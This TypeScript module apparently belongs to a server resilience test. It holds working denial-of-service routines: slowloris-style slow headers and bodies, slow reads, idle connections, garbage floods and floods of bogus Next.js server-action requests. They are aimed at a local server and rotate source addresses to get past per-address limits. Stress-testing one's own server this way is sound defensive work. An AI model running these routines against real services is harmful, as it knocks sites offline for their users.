import { connect as connectPlainly, type Socket } from "node:net";
import { connect } from "node:tls";

const SLOW_MS = 2_000;
const REOPENED_MS = 500;
const HOST = "portal.example";

export interface Attack {
  readonly name: string;
  readonly sockets: number;
  /** What each says at once; null: nothing. */
  readonly opening: string | null;
  /** What each adds every two seconds. */
  readonly more?: string;
  readonly isDeaf?: true;
  /** Sent over and over, as fast as it is answered. */
  readonly isFlood?: true;
  readonly isPlain?: true;
}

const head = (line: string, ...more: readonly string[]) =>
  [`${line} HTTP/1.1`, `Host: ${HOST}`, ...more, ""].join("\r\n");

export function attacks({ file, action }: { file: string; action: string }): Attack[] {
  const many = Array.from({ length: 40 }, () => `${head(`GET ${file}`)}\r\n`).join("");
  return [
    { name: "slow headers", sockets: 500, opening: head("GET /sign-in"), more: "X-More: x\r\n" },
    {
      name: "slow bodies",
      sockets: 500,
      opening: `${head("POST /sign-in", "Content-Length: 1000000")}\r\n`,
      more: "x",
    },
    { name: "slow reads", sockets: 500, opening: many, isDeaf: true },
    { name: "idle", sockets: 1_000, opening: null },
    { name: "garbage", sockets: 8, opening: "\u0000\u0001garbage\r\n\r\n", isFlood: true },
    { name: "garbage instead of TLS", sockets: 4, opening: "GET / HTTP/1.1\r\n\r\n", isFlood: true, isPlain: true },
    { name: "requests for nothing", sockets: 8, opening: `${head("GET /nothing/at/all?x=1")}\r\n`, isFlood: true },
    {
      ...{ name: "actions that are none", sockets: 8, isFlood: true as const },
      opening: `${head("POST /sign-in", "Next-Action: 00", "Content-Length: 2")}\r\n[]`,
    },
    {
      ...{ name: "bodies nobody can read", sockets: 8, isFlood: true as const },
      opening: `${head("POST /welcome", `Next-Action: ${action}`, "Content-Length: 2")}\r\n[{`,
    },
  ];
}

/** Keeps so many sockets at it until it is stopped; each that is closed is opened anew. */
export function attack(port: number, { sockets, opening, more, isDeaf, isFlood, isPlain }: Attack) {
  const open = new Set<Socket>();
  let [isOver, opened] = [false, 0];
  const start = (turn: number) => {
    if (isOver) return;
    opened += 1;
    // A few of each address, so that the limit for one address is not all that holds.
    const from = { host: "127.0.0.1", port, localAddress: isFlood ? "127.0.0.3" : `127.0.1.${(turn % 10) + 1}` };
    const say = () => opening !== null && socket.write(opening, "latin1");
    const socket = isPlain
      ? connectPlainly(from, say)
      : connect({ ...from, servername: HOST, rejectUnauthorized: false, ALPNProtocols: ["http/1.1"] }, say);
    open.add(socket);
    const timer = more === undefined ? undefined : setInterval(() => socket.write(more), SLOW_MS);
    if (isDeaf) socket.pause();
    else if (isFlood) socket.on("data", (answer) => answer.indexOf("HTTP/1.1") === 0 && say());
    else socket.resume();
    socket.on("error", () => undefined);
    socket.once("close", () => {
      clearInterval(timer);
      open.delete(socket);
      setTimeout(start, isFlood ? 5 : REOPENED_MS, turn);
    });
  };
  for (let turn = 0; turn < sockets; turn += 1) start(turn);
  return {
    open: () => open.size,
    opened: () => opened,
    stop() {
      isOver = true;
      for (const socket of open) socket.destroy();
    },
  };
}
